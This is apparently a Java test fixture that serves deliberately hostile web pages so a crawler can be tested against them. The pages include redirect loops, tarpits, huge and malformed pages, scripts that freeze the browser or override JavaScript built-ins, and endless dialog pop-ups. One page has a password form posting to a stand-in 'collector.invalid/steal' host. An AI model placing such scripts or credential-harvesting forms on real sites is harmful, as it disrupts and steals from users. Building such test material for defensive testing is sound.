package dev.veritas.testing.sites;

import com.sun.net.httpserver.HttpExchange;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.SplittableRandom;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

/**
 * Endpoints under {@code /_hostile/} that misbehave the way real sites do, so Veritas' crawler can be tested against
 * them: redirect loops, a request that is never answered, huge, binary and broken pages, a trickling response, an
 * HTTPS→HTTP downgrade and a long redirect chain. Both listeners serve them, whatever the site's redirect setting.
 *
 * <p>The endpoints that wait ({@code hang}, {@code slow}) wait on the server's closing latch, so closing the server
 * releases their threads at once.
 */
final class HostileEndpoints {
    static final String PREFIX = "/_hostile/";
    /** Size of {@code /_hostile/huge}: 50 MiB. */
    static final long HUGE_BYTES = 50L * 1024 * 1024;
    /** Size of {@code /_hostile/binary} and {@code /_hostile/binary-as-html}: 4 MiB. */
    static final long BINARY_BYTES = 4L * 1024 * 1024;
    /** Redirects {@code /_hostile/many-redirects} makes before the page. */
    static final int MANY_REDIRECT_HOPS = 7;
    /** What {@code /_hostile/slow} sends, one byte a second. */
    static final String SLOW_BODY =
            "<!doctype html><html><head><meta charset=\"utf-8\"><title>Slow</title></head>"
                    + "<body><p>This page arrives one byte a second.</p></body></html>\n";
    /** A page broken in many ways at once, with a NUL byte in the middle. */
    static final String MALFORMED_BODY = """
            <!DOCTYPE html>
            <html><head><meta charset="utf-8"><title>Broken page</title>
            <body>
            <div class="outer"><p>Unclosed paragraph <b>bold <i>crossed</b> nesting</i>
            <p>Another paragraph with an unclosed <span>span
            </html>
            <h1>Content after the closing html tag</h1>
            <form action="/_hostile/outer" method="post"><input name="outer">
              <form action="/_hostile/inner" method="post"><input name="inner" type="password"></form>
            </form></form>
            <p>Invalid entities: &notanentity; &#xZZZ; &#99999999; &amp &lt &#0; done.
            <table><tr><td>cell<div>div in a cell</table></td></tr>
            <p>A NUL byte here: [\0] and after it more text.
            <a href="/_hostile/malformed" <a href="/">broken attribute</a>
            <img src=/favicon.ico alt=unquoted"quote>
            <ul><li>one<li>two</ol>
            </body></body></html></div>
            <p>Trailing text after everything.
            """;
    private static final int CHUNK = 64 * 1024;
    /** Loads normally, then, a moment later, runs a script that never yields. */
    static final String LATE_LOOP = page0("A page that freezes after loading",
            "<p>Only 2 left in stock: order in the next minute.</p>"
                    + "<script>setTimeout(function () { for (;;) {} }, 1200);</script>");
    /** A script that never yields before the page has even finished loading. */
    static final String EARLY_LOOP = "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>A page that never loads</title>"
            + "<script>for (;;) {}</script></head><body><h1>Never rendered</h1><p>Hurry, only 3 left in stock!</p></body></html>\n";
    /**
     * Redefines what an auditor's script would use: JSON, array and string methods, DOM queries and styles. Its text
     * has a scarcity claim that must still be found.
     */
    static final String SABOTAGE = page0("A page that sabotages built-ins",
            "<p id=\"scarce\">Only 2 left in stock - order now!</p>"
                    + "<form action=\"https://collector.invalid/steal\" method=\"post\"><input type=\"password\" name=\"pw\"></form>"
                    + "<script>"
                    + "var c = {}; c.self = c;"
                    + "JSON.stringify = function () { throw new TypeError('Converting circular structure to JSON'); };"
                    + "JSON.parse = function () { return c; };"
                    + "Array.from = function () { return []; }; Array.prototype.map = function () { return []; };"
                    + "Array.prototype.push = function () { throw new Error('no push'); };"
                    + "String.prototype.trim = function () { return ''; }; String.prototype.replace = function () { return ''; };"
                    + "Document.prototype.querySelectorAll = function () { throw new Error('no queries'); };"
                    + "Element.prototype.querySelectorAll = function () { throw new Error('no queries'); };"
                    + "Element.prototype.getElementsByTagName = function () { return []; };"
                    + "window.getComputedStyle = function () { throw new Error('no styles'); };"
                    + "Element.prototype.getBoundingClientRect = function () { return {width: 0, height: 0}; };"
                    + "Object.defineProperty(Document.prototype, 'title', {get: function () { return c; }});"
                    + "Object.defineProperty(HTMLElement.prototype, 'innerText', {get: function () { return c; }});"
                    + "</script>");
    /** Alerts, confirms and new windows in an endless stream, and a page that begs not to be left. */
    static final String DIALOGS = page0("A page that nags",
            "<p>Do not leave!</p><script>"
                    + "window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = 'stay'; return 'stay'; });"
                    + "var n = 0; setInterval(function () { n++; alert('alert ' + n); confirm('Sure? ' + n); prompt('Why? ' + n);"
                    + " window.open('/_hostile/dialogs?w=' + n, '_blank'); }, 30);"
                    + "</script>");

    private final Origins origins;
    private final CountDownLatch closing;

    HostileEndpoints(Origins origins, CountDownLatch closing) {
        this.origins = origins;
        this.closing = closing;
    }

    static boolean handles(String path) {
        return path.startsWith(PREFIX);
    }

    /** Answers a {@code /_hostile/…} request; {@code scheme} is the listener it arrived on. */
    void serve(HttpExchange exchange, String scheme) throws IOException, InterruptedException {
        String name = exchange.getRequestURI().getPath().substring(PREFIX.length());
        String self = origins.of(scheme) + PREFIX;
        switch (name) {
            case "loop" -> Responses.redirect(exchange, 302, self + "loop");
            case "loop-a" -> Responses.redirect(exchange, 302, self + "loop-b");
            case "loop-b" -> Responses.redirect(exchange, 302, self + "loop-a");
            case "hang" -> hang();
            case "huge" -> huge(exchange);
            case "binary" -> randomBytes(exchange, "application/octet-stream");
            case "binary-as-html" -> randomBytes(exchange, "text/html; charset=utf-8");
            case "malformed" -> Responses.html(exchange, 200, MALFORMED_BODY);
            case "slow" -> slow(exchange);
            case "downgrade" -> Responses.redirect(exchange, 302, origins.http() + PREFIX + "downgraded");
            case "late-loop" -> Responses.html(exchange, 200, LATE_LOOP);
            case "early-loop" -> Responses.html(exchange, 200, EARLY_LOOP);
            case "sabotage" -> Responses.html(exchange, 200, SABOTAGE);
            case "dialogs" -> Responses.html(exchange, 200, DIALOGS);
            case "nest" -> Responses.html(exchange, 200, nest(exchange));
            case "drip" -> drip(exchange);
            case "downgraded" -> Responses.html(exchange, 200, page("Plain HTTP page",
                    "This page was reached by a redirect from HTTPS to plain HTTP."));
            default -> manyRedirectsOrNotFound(exchange, self, name);
        }
    }

    /**
     * {@code many-redirects} → {@code many-redirects/1} → … → {@code many-redirects/6} → {@code many-redirects/end}:
     * seven redirects, then a page.
     */
    private void manyRedirectsOrNotFound(HttpExchange exchange, String self, String name) throws IOException {
        String base = "many-redirects";
        if (name.equals(base)) {
            Responses.redirect(exchange, 302, self + base + "/1");
        } else if (name.equals(base + "/end")) {
            Responses.html(exchange, 200, page("Arrived", "This page comes after " + MANY_REDIRECT_HOPS
                    + " redirects."));
        } else if (name.matches("chain/\\d{1,9}")) {
            // An endless redirect chain: every hop a new address, so no loop is ever seen.
            Responses.redirect(exchange, 302, self + "chain/" + (Long.parseLong(name.substring("chain/".length())) + 1));
        } else if (name.matches(base + "/[1-9]")) {
            int hop = Integer.parseInt(name.substring(base.length() + 1));
            if (hop < MANY_REDIRECT_HOPS - 1) {
                Responses.redirect(exchange, 302, self + base + "/" + (hop + 1));
            } else if (hop == MANY_REDIRECT_HOPS - 1) {
                Responses.redirect(exchange, 302, self + base + "/end");
            } else {
                Responses.notFound(exchange);
            }
        } else {
            Responses.notFound(exchange);
        }
    }

    /** Accepts the request and never answers; the thread is released when the server closes. */
    private void hang() throws InterruptedException {
        closing.await();
    }

    /** 50 MiB of HTML generated as it is written, so the server never holds the page. */
    private static void huge(HttpExchange exchange) throws IOException {
        byte[] head = ("<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Huge page</title>"
                + "</head><body>\n").getBytes(StandardCharsets.US_ASCII);
        byte[] tail = "</body></html>\n".getBytes(StandardCharsets.US_ASCII);
        byte[] row = "<p>Filler paragraph of a very large page that a crawler should not read to the end.</p>\n"
                .getBytes(StandardCharsets.US_ASCII);
        byte[] block = new byte[CHUNK - CHUNK % row.length];
        for (int i = 0; i < block.length; i += row.length) {
            System.arraycopy(row, 0, block, i, row.length);
        }
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        if (Responses.isHead(exchange)) {
            exchange.getResponseHeaders().set("Content-Length", Long.toString(HUGE_BYTES));
            exchange.sendResponseHeaders(200, -1);
            return;
        }
        exchange.sendResponseHeaders(200, HUGE_BYTES);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(head);
            long filler = HUGE_BYTES - head.length - tail.length;
            while (filler > 0) {
                int n = (int) Math.min(block.length, filler);
                out.write(block, 0, n);
                filler -= n;
            }
            out.write(tail);
        }
    }

    /** Seeded random bytes, generated chunk by chunk: the same bytes on every request. */
    private static void randomBytes(HttpExchange exchange, String contentType) throws IOException {
        exchange.getResponseHeaders().set("Content-Type", contentType);
        if (Responses.isHead(exchange)) {
            exchange.getResponseHeaders().set("Content-Length", Long.toString(BINARY_BYTES));
            exchange.sendResponseHeaders(200, -1);
            return;
        }
        exchange.sendResponseHeaders(200, BINARY_BYTES);
        SplittableRandom random = new SplittableRandom(0x7e57_5eedL);
        byte[] chunk = new byte[CHUNK];
        try (OutputStream out = exchange.getResponseBody()) {
            for (long left = BINARY_BYTES; left > 0; left -= chunk.length) {
                for (int i = 0; i < chunk.length; i += 8) {
                    long bits = random.nextLong();
                    for (int b = 0; b < 8; b++) {
                        chunk[i + b] = (byte) (bits >>> (8 * b));
                    }
                }
                out.write(chunk, 0, (int) Math.min(chunk.length, left));
            }
        }
    }

    /** Sends {@link #SLOW_BODY} one byte a second, chunked, flushing each byte. */
    private void slow(HttpExchange exchange) throws IOException, InterruptedException {
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, 0);
        byte[] body = SLOW_BODY.getBytes(StandardCharsets.US_ASCII);
        try (OutputStream out = exchange.getResponseBody()) {
            for (int i = 0; i < body.length; i++) {
                out.write(Arrays.copyOfRange(body, i, i + 1));
                out.flush();
                // The wait is the point of this endpoint; closing the server cuts it short.
                if (i + 1 < body.length && closing.await(1, TimeUnit.SECONDS)) {
                    return;
                }
            }
        }
    }

    /** A frame that contains itself, one level deeper each time, for ever. */
    private static String nest(HttpExchange exchange) {
        String q = exchange.getRequestURI().getQuery();
        long depth = q != null && q.matches("d=\\d{1,9}") ? Long.parseLong(q.substring(2)) : 0;
        return page0("Nested " + depth, "<p>Level " + depth + "</p><iframe src=\"/_hostile/nest?d=" + (depth + 1)
                + "\" width=\"600\" height=\"400\"></iframe><iframe src=\"/_hostile/nest?d=" + (depth + 1) + "\"></iframe>");
    }

    /** A page whose head arrives, then one more byte every 2 seconds, for ever (until the server closes). */
    private void drip(HttpExchange exchange) throws IOException, InterruptedException {
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, 0);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(("<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>A tarpit</title></head>"
                    + "<body><h1>A tarpit</h1><p>Only 4 left in stock.</p><p>").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            while (!closing.await(2, TimeUnit.SECONDS)) {
                out.write('.');
                out.flush();
            }
        }
    }

    private static String page0(String title, String body) {
        return "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>" + title + "</title></head>"
                + "<body><h1>" + title + "</h1>" + body + "</body></html>\n";
    }

    private static String page(String title, String text) {
        return "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>" + title + "</title></head>"
                + "<body><h1>" + title + "</h1><p>" + text + "</p><p><a href=\"/\">Home</a></p></body></html>\n";
    }
}
